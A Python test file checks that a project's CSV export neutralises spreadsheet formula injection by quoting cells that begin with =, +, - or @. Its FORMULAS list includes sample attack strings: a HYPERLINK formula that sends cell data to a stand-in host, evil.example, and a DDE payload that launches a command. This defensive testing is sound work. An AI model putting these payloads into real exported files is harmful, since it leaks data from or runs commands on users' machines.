"""CSV injection: what pmjobs writes as CSV never runs as a spreadsheet formula (pure code)."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest

from flows.steps.csv_safety import FORMULA_START, csv_safe, escape_cell, to_csv_bytes

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-5\n=cmd",  # a number only up to a line break is not a number
    "-٣",  # non-ASCII digits are not a number a spreadsheet reads
    "+",
    "-",
]
NUMBERS = ["-5", "+3.2", "-0.5", "-.5", "+7", "-1e5", "1E-3", "-12.", "42"]
PLAIN = ["A", "Register request", "a=b", "x+y", "50%", "", "'=already quoted", " =1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_quoted(value: str) -> None:
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", NUMBERS + PLAIN)
def test_numbers_and_plain_text_stay(value: str) -> None:
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", [None, np.nan, 5, -5, -3.2, True, pd.Timestamp("2024-01-01")])
def test_non_text_values_stay(value: object) -> None:
    assert escape_cell(value) is value


@pytest.mark.parametrize("dtype", [object, "str", "string", "category"])
def test_every_text_dtype_is_escaped(dtype: object) -> None:
    cells = FORMULAS + NUMBERS + PLAIN
    df = pd.DataFrame({"text": pd.Series(cells, dtype=dtype)})
    out = csv_safe(df)["text"].astype(object).tolist()
    expected = ["'" + v for v in FORMULAS] + NUMBERS + PLAIN
    assert out == expected


def test_missing_values_stay_missing() -> None:
    df = pd.DataFrame({"s": pd.Series(["=1", None, "a"], dtype="str")})
    out = csv_safe(df)["s"]
    assert out.iloc[0] == "'=1" and pd.isna(out.iloc[1]) and out.iloc[2] == "a"


def test_numeric_columns_are_untouched_and_input_is_not_modified() -> None:
    df = pd.DataFrame(
        {
            "n": [-5, 3, -1],
            "x": [-3.2, 0.5, np.nan],
            "when": pd.to_datetime(["2024-01-01", "2024-01-02", "2024-01-03"], utc=True),
            "=name": ["=a", "b", "-c"],
        }
    )
    before = df.copy()
    out = csv_safe(df)
    pd.testing.assert_frame_equal(df, before)
    assert out["n"].dtype == df["n"].dtype and out["n"].tolist() == [-5, 3, -1]
    assert out["x"].dtype == df["x"].dtype
    assert list(out.columns) == ["n", "x", "when", "'=name"]
    assert out["'=name"].tolist() == ["'=a", "b", "'-c"]


def test_duplicate_column_names_are_handled() -> None:
    df = pd.DataFrame([["=a", "+b"]], columns=["c", "c"])
    assert csv_safe(df).iloc[0].tolist() == ["'=a", "'+b"]


def test_written_csv_reads_back_as_text_and_numbers() -> None:
    df = pd.DataFrame(
        {
            "case:concept:name": ["1", "2", "3"],
            "concept:name": ["=2+5", "@SUM(A1)", "Pay"],
            "amount": [-5, 3, -1],
            "note": ["-5", "+3.2", "-x"],
        }
    )
    rows = list(csv.reader(io.StringIO(to_csv_bytes(df).decode("utf-8"))))
    assert rows[0] == ["case:concept:name", "concept:name", "amount", "note"]
    assert [r[1] for r in rows[1:]] == ["'=2+5", "'@SUM(A1)", "Pay"]
    assert [r[2] for r in rows[1:]] == ["-5", "3", "-1"]
    assert [r[3] for r in rows[1:]] == ["-5", "+3.2", "'-x"]
    for row in rows:  # no cell a spreadsheet would evaluate: formula starts only on numbers
        for cell in row:
            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"[+-][0-9.]+", cell)
